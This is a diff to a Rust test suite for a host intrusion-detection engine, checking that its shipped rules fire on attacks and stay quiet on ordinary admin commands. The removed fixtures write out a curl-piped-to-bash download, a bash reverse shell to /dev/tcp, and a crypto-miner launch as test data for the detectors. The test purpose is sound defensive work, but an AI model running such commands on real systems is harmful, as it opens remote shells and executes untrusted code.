@@ -1,10 +1,13 @@
 //! The rules that are shipped: each finds what it is for, and leaves the ordinary life of a host alone.
 
 use crate::fixture::{event, identified, process, runtime};
+use daemoneye_lib::alerting::golden::{Case, EVENTS};
 use daemoneye_lib::detection::rules::load_dir;
 use daemoneye_lib::detection::standing::DetectionEngine;
+use daemoneye_lib::models::jsonl::parse_events;
 use daemoneye_lib::proto::common::{EventType, ProcessRecord};
 use serde_json::Value;
+use std::collections::BTreeSet;
 use std::path::{Path, PathBuf};
 use std::sync::OnceLock;
 
@@ -45,69 +48,35 @@ fn child_of(parent: &str, mut record: ProcessRecord) -> ProcessRecord {
     record
 }
 
-fn deleted(path: &str, file_exists: bool) -> ProcessRecord {
-    let mut record = running("payload", path, path);
-    record.file_exists = Some(file_exists);
-    record.image_mismatch = Some(true);
-    record
-}
-
-/// Each shipped rule with a process that it is for, and one that is nearly the same.
-fn cases() -> Vec<(&'static str, ProcessRecord, ProcessRecord)> {
-    let bash = |command_line: &str| running("bash", "/usr/bin/bash", command_line);
-    vec![
-        (
-            "linux-executable-deleted",
-            deleted("/usr/local/bin/payload", false),
-            // Replaced by an update.
-            deleted("/usr/local/bin/payload", true),
-        ),
-        ("linux-hidden-executable-in-temp", running(".x", "/tmp/.x", "/tmp/.x 5"), running("x", "/tmp/x", "/tmp/x 5")),
-        (
-            "linux-intrusion-tool-by-name",
-            running("XMRig", "/opt/m/xmrig", "./xmrig -o pool"),
-            running("xmrigger", "/opt/m/xmrigger", "./xmrigger"),
-        ),
-        (
-            "linux-kernel-thread-masquerade",
-            running("kworker/0:1", "/usr/bin/perl", "[kworker/0:1]"),
-            running("kworker/0:1", "", ""),
-        ),
-        (
-            "linux-payload-piped-to-shell",
-            bash("bash -c curl -s https://x.example/i.sh | bash"),
-            bash("bash -c curl -s https://x.example/i.sh | shasum"),
-        ),
-        (
-            "linux-reverse-shell",
-            bash("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
-            bash("bash -c echo > /dev/null; ls /dev/tcp"),
-        ),
-        (
-            "linux-shell-from-web-server",
-            child_of("nginx", running("sh", "/usr/bin/dash", "sh -c id")),
-            child_of("cron", running("sh", "/usr/bin/dash", "sh -c id")),
-        ),
-    ]
+#[test]
+fn every_rule_has_a_golden_case_that_holds_with_all_rules_together() {
+    runtime().block_on(async {
+        let rules = engine().rules();
+        assert!(rules.len() >= 20, "{}", rules.len());
+        let mut wrong = Vec::new();
+        for rule in rules.iter() {
+            let (id, file) = (&rule.rule.id, &rule.rule.file);
+            let case = Case::beside(id, file).unwrap().unwrap_or_else(|| panic!("{id} has no case"));
+            let verdict = case.try_rules(&rules).await.unwrap();
+            wrong.extend(verdict.wrong.iter().map(|wrong| format!("{id}: {wrong}")));
+            assert!(verdict.alerts > 0 && verdict.events > verdict.alerts, "{id}: {verdict:?}");
+            let events = std::fs::read_to_string(file.with_file_name(EVENTS)).unwrap();
+            assert!(events.contains("near miss"), "{id} has no near miss");
+        }
+        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+    });
 }
 
 #[test]
-fn each_rule_finds_what_it_is_for_and_not_what_is_nearly_the_same() {
-    for (rule, hit, near) in cases() {
-        assert_eq!(fired(hit.clone()), [rule]);
-        assert_eq!(fired_at(EventType::Exec, hit.clone()), [rule]);
-        assert_eq!(fired_at(EventType::Exit, hit), [""; 0], "the end of a process is no start: {rule}");
-        assert_eq!(fired(near), [""; 0], "near miss of {rule}");
+fn the_end_of_a_process_is_no_start() {
+    let rules = engine().rules();
+    for rule in rules.iter() {
+        let events = std::fs::read_to_string(rule.rule.file.with_file_name(EVENTS)).unwrap();
+        let mut events = parse_events(&events).unwrap();
+        events.iter_mut().for_each(|event| event.event_type = EventType::Exit.into());
+        let found = engine().execute_rules(&identified(events), &[]).found;
+        assert!(found.is_empty(), "{}: {found:?}", rule.rule.id);
     }
-}
-
-#[test]
-fn every_shipped_rule_has_its_case() {
-    let mut tested: Vec<_> = cases().into_iter().map(|(rule, _, _)| rule.to_owned()).collect();
-    tested.sort();
-    let mut shipped: Vec<_> = engine().record().rules().into_iter().map(|rule| rule.rule_id).collect();
-    shipped.sort();
-    assert_eq!(tested, shipped);
 }
 
 #[test]
@@ -163,6 +132,16 @@ fn kernel_threads_and_services_are_ordinary_life() {
         running("sh", "/usr/bin/dash", "sh -c ps aux | grep ssh | sort"),
         running("python3", "/usr/bin/python3.11", "python3 -c import socket; print(socket.gethostname())"),
         running("nc", "/usr/bin/nc", "nc -z localhost 22"),
+        running("cargo", "/root/.cargo/bin/cargo", "cargo build --release"),
+        running("dpkg", "/usr/bin/dpkg", "/usr/bin/dpkg --status-fd 12 --configure --pending"),
+        child_of("dpkg", running("systemctl", "/usr/bin/systemctl", "systemctl daemon-reload")),
+        running("logrotate", "/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf"),
+        running("curl", "/usr/bin/curl", "curl -fsSL -o /tmp/x.tgz https://x.example/x.tgz"),
+        running("docker", "/usr/bin/docker", "docker run --rm -v /srv/data:/data -p 80:80 nginx"),
+        running("chmod", "/usr/bin/chmod", "chmod -R 0755 /srv/www"),
+        running("rm", "/usr/bin/rm", "rm -rf /tmp/src/target /var/tmp/x"),
+        running("ssh", "/usr/bin/ssh", "ssh -o BatchMode=yes -L 5432:db:5432 host"),
+        running("find", "/usr/bin/find", "find /srv -name *.log -mtime +7 -delete"),
     ] {
         assert_eq!(fired(record.clone()), [""; 0], "{record:?}");
     }
@@ -204,4 +183,30 @@ fn nothing_fires_on_ordinary_work() {
     for record in records {
         assert_eq!(fired_at(EventType::Exec, record.clone()), [""; 0], "{record:?}");
     }
+}
+
+#[test]
+fn some_of_the_commands_of_public_attack_tests_are_found() {
+    let corpus = testkit::corpus();
+    if !testkit::require("corpus", corpus.is_some(), "there is no directory of public events") {
+        return;
+    }
+    let lines = std::fs::read_to_string(corpus.unwrap().join("atomics.jsonl")).unwrap();
+    let (mut all, mut found) = (0, Vec::new());
+    for line in lines.lines() {
+        let attack: Value = serde_json::from_str(line).unwrap();
+        let events = attack["exec_events"].as_array().unwrap();
+        let shell = events.first().map(|event| event["ParentCommandLine"].clone());
+        let own = events.iter().cloned().chain(shell.map(|line| {
+            serde_json::json!({"Image": "/usr/bin/bash", "CommandLine": line, "ParentImage": "/usr/bin/python3.11"})
+        }));
+        let rules: BTreeSet<String> =
+            own.flat_map(|event| fired_at(EventType::Exec, record(&serde_json::json!({ "event": event })))).collect();
+        all += 1;
+        if !rules.is_empty() {
+            found.push(format!("{} by {rules:?}", attack["name"]));
+        }
+    }
+    // Most of these tests are ordinary commands (ps, id, tar), which no rule should report.
+    assert!(found.len() >= 20, "{} of {all}: {found:#?}", found.len());
 }
